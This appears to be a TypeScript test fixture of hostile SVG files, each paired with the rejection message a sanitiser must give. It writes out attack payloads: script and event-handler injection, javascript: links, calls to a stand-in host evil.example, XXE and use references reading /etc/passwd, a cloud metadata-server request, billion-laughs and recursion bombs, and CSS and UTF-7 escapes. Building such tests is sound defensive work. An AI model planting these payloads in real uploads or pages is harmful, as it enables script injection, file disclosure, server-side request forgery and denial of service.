// Drawings that must not get in, by what they try; none may take long to refuse.
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'

function svg(inside: string, attributes = ''): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" ${XLINK} viewBox="0 0 10 10" ${attributes}>${inside}</svg>`
}

const rect = '<rect width="5" height="5"/>'
const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
const nest = Array.from({ length: 30 }, (_, n) => `<g id="u${n + 1}">${`<use href="#u${n}"/>`.repeat(10)}</g>`).join('')
const patterns = Array.from(
  { length: 20 },
  (_, n) =>
    `<pattern id="p${n + 1}" width="1" height="1">${`<rect width="1" height="1" fill="url(#p${n})"/>`.repeat(8)}</pattern>`
).join('')
const svgInside = Buffer.from(svg(rect)).toString('base64')

/** Name, text (or bytes), and what the sentence must speak of. */
export const HOSTILE_SVGS: [name: string, content: string | Buffer, about: RegExp][] = [
  ['script', svg('<script>alert(1)</script>'), /script/],
  ['script in capitals', svg('<SCRIPT>alert(1)</SCRIPT>'), /script/],
  ['script by address', svg('<script href="https://evil.example/x.js"/>'), /script/],
  ['script in CDATA', svg('<script><![CDATA[alert(1)]]></script>'), /script/],
  ['script with a prefix', `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>1</s:script></s:svg>`, /script/],
  ['script of HTML', svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'), /script/],
  ['handler element', svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events">1</handler>'), /script/],
  ['onload', svg(rect, 'onload="alert(1)"'), /script/],
  ['onclick', svg('<rect width="5" height="5" onclick="alert(1)"/>'), /script/],
  ['oNmouseover', svg('<g oNmouseover="alert(1)"/>'), /script/],
  ['onbegin', svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'), /animated|script/],
  ['animate to href', svg('<a><animate attributeName="href" values="javascript:alert(1)"/></a>'), /link|animated/],
  [
    'set',
    svg('<rect id="r" width="5" height="5"/><set href="#r" attributeName="onmouseover" to="alert(1)"/>'),
    /animated/
  ],
  ['animateTransform', svg('<animateTransform attributeName="transform" type="rotate" dur="1s"/>'), /animated/],
  ['foreignObject', svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'), /web page/],
  ['iframe', svg('<iframe src="https://evil.example"/>'), /web page/],
  ['link', svg('<a href="https://evil.example"><rect width="5" height="5"/></a>'), /link/],
  ['javascript link', svg('<a xlink:href="javascript:alert(1)"><rect width="5" height="5"/></a>'), /link/],
  ['javascript in use', svg('<use href="java&#10;script:alert(1)"/>'), /script/],
  ['use of a file', svg('<use href="file:///etc/passwd#x"/>'), /outside/],
  ['use of another site', svg('<use xlink:href="https://evil.example/a.svg#x"/>'), /outside/],
  ['use of data', svg(`<use href="data:image/svg+xml;base64,${svgInside}#x"/>`), /outside/],
  ['picture of another site', svg('<image href="https://evil.example/a.png" width="9" height="9"/>'), /outside/],
  [
    'picture of the metadata server',
    svg('<image href="http://169.254.169.254/latest" width="9" height="9"/>'),
    /outside/
  ],
  ['picture from disk', svg('<image href="/etc/hostname" width="9" height="9"/>'), /outside/],
  ['picture relative', svg('<image xlink:href="../../secret.png" width="9" height="9"/>'), /outside/],
  [
    'picture that is an SVG',
    svg(`<image href="data:image/svg+xml;base64,${svgInside}" width="9" height="9"/>`),
    /outside/
  ],
  [
    'picture that lies',
    svg(`<image href="data:image/png;base64,${svgInside}" width="9" height="9"/>`),
    /not what it says/
  ],
  ['two addresses', svg('<use href="#a" xlink:href="#b"/>'), /twice/],
  ['feImage', svg('<filter id="f"><feImage href="https://evil.example/a.png"/></filter>'), /filter/],
  ['CSS import', svg(`<style>@import url(https://evil.example/a.css);</style>${rect}`), /outside/],
  ['CSS import escaped', svg(`<style>@\\69mport "https://evil.example/a.css";</style>${rect}`), /outside/],
  ['CSS import with a comment', svg(`<style>@im/**/port "//evil.example/a.css";</style>${rect}`), /outside/],
  ['CSS url', svg(`<style>rect{fill:url(https://evil.example/a)}</style>${rect}`), /outside/],
  ['CSS url escaped', svg(`<style>rect{fill:\\75 rl(//evil.example/a)}</style>${rect}`), /outside/],
  ['CSS font', svg(`<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>${rect}`), /outside/],
  ['CSS image-set', svg(`<style>rect{mask:image-set("//evil.example/a" 1x)}</style>${rect}`), /outside/],
  ['CSS expression', svg(`<style>rect{width:expression(alert(1))}</style>${rect}`), /script/],
  ['CSS binding', svg('<rect width="5" height="5" style="-moz-binding:url(#x)"/>'), /script/],
  ['style attribute url', svg('<rect width="5" height="5" style="fill:url(\'http://evil.example/a\')"/>'), /outside/],
  ['fill url', svg('<rect width="5" height="5" fill="url( &quot;//evil.example/a&quot; )"/>'), /outside/],
  ['filter url', svg('<rect width="5" height="5" filter="URL(data:image/svg+xml,x#f)"/>'), /outside/],
  ['entity of a file', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<title>&x;</title>')}`, /entit/],
  ['entity by parameter', `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://127.0.0.1:1/x"> %x;]>${svg(rect)}`, /entit/],
  ['billion laughs', `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>${svg('<title>&l10;</title>')}`, /entit/],
  ['entity not defined', svg('<desc>&nbsp;</desc>'), /entity/],
  ['stylesheet instruction', `<?xml-stylesheet href="https://evil.example/a.css"?>${svg(rect)}`, /style sheet/],
  [
    'XInclude with script',
    svg('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><script/>'),
    /script/
  ],
  [
    'XInclude alone',
    svg('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    /nothing/
  ],
  ['deep nest', `${svg('').slice(0, -6)}${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}</svg>`, /levels deep/],
  ['nest of a hundred and one', svg(`${'<g>'.repeat(101)}${'</g>'.repeat(101)}`), /levels deep/],
  ['many elements', svg('<g/>'.repeat(25_000)), /20,000/],
  ['use nest', svg(`<g id="u0">${rect}</g>${nest}<use href="#u30"/>`), /too many times/],
  ['use of itself', svg('<g id="a"><use href="#a"/></g>'), /without end/],
  ['use in a ring', svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'), /without end/],
  [
    'pattern nest',
    svg(`<pattern id="p0" width="1" height="1"/>${patterns}<rect width="9" height="9" fill="url(#p20)"/>`),
    /too many times/
  ],
  [
    'chain of uses',
    svg(Array.from({ length: 500 }, (_, n) => `<use id="c${n}" href="#c${n + 1}"/>`).join('')),
    /too many times/
  ],
  ['text', svg('<text x="1" y="5">Go team</text>'), /outlines/],
  ['text path', svg('<textPath href="#p">Go team</textPath>'), /outlines/],
  ['unknown element', svg('<blink/>'), /<blink>/],
  ['too large', svg(`<desc>${'x'.repeat(2 * 1024 * 1024)}</desc>`), /2 MB/],
  ['compressed', Buffer.from('1f8b0800000000000003', 'hex'), /SVGZ/],
  ['UTF-16', Buffer.from(`\ufeff${svg(rect)}`, 'utf16le'), /UTF-8/],
  ['UTF-7', `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-')}`, /UTF-8/],
  ['broken UTF-8', Buffer.concat([Buffer.from(svg('<desc>').slice(0, -6)), Buffer.from([0xff, 0xfe])]), /UTF-8/],
  ['not closed', svg('<g>'), /damaged/],
  ['crossed tags', svg('<g><defs></g></defs>'), /damaged/],
  ['two roots', `${svg(rect)}${svg(rect)}`, /damaged/],
  ['an attribute twice', svg('<rect x="1" x="2"/>'), /damaged/],
  ['unknown prefix', svg('<a:g/>'), /damaged/],
  ['NUL', svg('<g\0/>'), /characters/],
  ['numbered NUL', svg('<desc>&#0;</desc>'), /damaged/],
  ['no drawing', '<svg xmlns="http://www.w3.org/2000/svg"/>', /nothing|cannot be drawn/],
  ['another root', '<html xmlns="http://www.w3.org/1999/xhtml"/>', /web page|not an SVG/],
  ['MathML', '<math xmlns="http://www.w3.org/1998/Math/MathML"/>', /not an SVG/]
]

/** Well formed and allowed, but endless work: only the clock can stop them. */
export const SLOW_SVG = svg(
  `<filter id="f" x="0" y="0" width="1" height="1">${'<feTurbulence baseFrequency="0.9" numOctaves="255"/>'.repeat(50)}</filter>
  <rect width="10" height="10" filter="url(#f)"/>`
)
